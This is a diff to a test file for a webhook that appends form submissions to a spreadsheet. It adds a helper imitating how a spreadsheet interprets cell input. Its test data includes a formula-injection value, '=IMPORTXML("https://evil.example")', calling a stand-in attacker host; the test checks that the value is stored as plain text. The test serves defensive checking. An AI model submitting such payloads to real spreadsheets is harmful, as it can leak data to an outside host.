@@ -8,13 +8,20 @@ const page = await Bun.file(join(import.meta.dir, '../../../docs/webhooks.md')).
 const [, program = ''] = /```gs\n([\s\S]*?)```/.exec(page) ?? [];
 const [, setup = ''] = /```json\n(\{\s*"format": "custom",\s*"url": "https:\/\/n8n[\s\S]*?)```/.exec(page) ?? [];
 
-test('it adds a row for each submission once, for whoever has the token, and no formulas', () => {
+/** As a spreadsheet reads what it is given: after an apostrophe a text, else a formula or a number if it looks like one. */
+function cellOf(given: string): string {
+	if (given.startsWith("'")) return given.slice(1);
+	if (/^[=+@-]/.test(given)) return '#FORMULA!';
+	return /^\d+$/.test(given) ? String(Number(given)) : given;
+}
+
+test('it adds a row for each submission once, for whoever has the token, of texts as they were sent', () => {
 	const rows: string[][] = [];
 	const sheet = {
 		createTextFinder: (text: string) => ({
 			matchEntireCell: () => ({ findNext: () => rows.flat().find((cell) => cell === text) ?? null }),
 		}),
-		appendRow: (row: string[]) => rows.push(row),
+		appendRow: (row: string[]) => rows.push(row.map(cellOf)),
 	};
 	const services = {
 		SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
@@ -23,7 +30,7 @@ test('it adds a row for each submission once, for whoever has the token, and no 
 	const doPost = new Function(...Object.keys(services), `${program}; return doPost;`)(...Object.values(services));
 	const data = JSON.stringify({
 		name: '=IMPORTXML("https://evil.example")',
-		email: 'ada@example.com',
+		email: '00441632960961',
 		message: '{{name}} "x"',
 	});
 	const told = {
@@ -43,6 +50,6 @@ test('it adds a row for each submission once, for whoever has the token, and no 
 	expect(rows).toEqual([]);
 	expect([post('choose-a-long-word'), post('choose-a-long-word')]).toEqual(['ok', 'ok']);
 	expect(rows.map((row) => row.slice(1))).toEqual([
-		['2026-01-02T03:04:05.678Z', '\'=IMPORTXML("https://evil.example")', 'ada@example.com', '{{name}} "x"'],
+		['2026-01-02T03:04:05.678Z', '=IMPORTXML("https://evil.example")', '00441632960961', '{{name}} "x"'],
 	]);
 });
